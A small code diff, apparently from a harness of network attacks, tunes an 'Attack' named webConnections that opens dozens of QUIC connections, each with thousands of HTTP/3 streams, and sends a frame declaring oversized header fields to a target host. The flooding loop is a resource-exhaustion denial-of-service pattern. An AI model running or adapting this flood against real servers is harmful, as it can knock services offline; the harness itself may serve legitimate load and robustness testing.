@@ -4,7 +4,7 @@ import { counting } from '../counted.js';
 import { ATTACKER_HOST } from '../raw-peer.js';
 
 /** Connections at once, and streams of each. */
-const CONNECTIONS = 64;
+const CONNECTIONS = 32;
 const STREAMS = 4_000;
 /** A frame of HTTP/3 with header fields that are 4,000 bytes long. */
 const REQUEST = Buffer.of(0x01, 0x4f, 0xa0);
@@ -25,7 +25,7 @@ export const webConnections: Attack = {
           send.write(REQUEST);
           for (let i = 0; i < STREAMS && !signal.aborted; i++) {
             (await quic.openUni()).write(Buffer.of(0x40));
-            if (i % 100 !== 99) continue;
+            if (i % 50 !== 49) continue;
             count();
             await pause(50);
           }
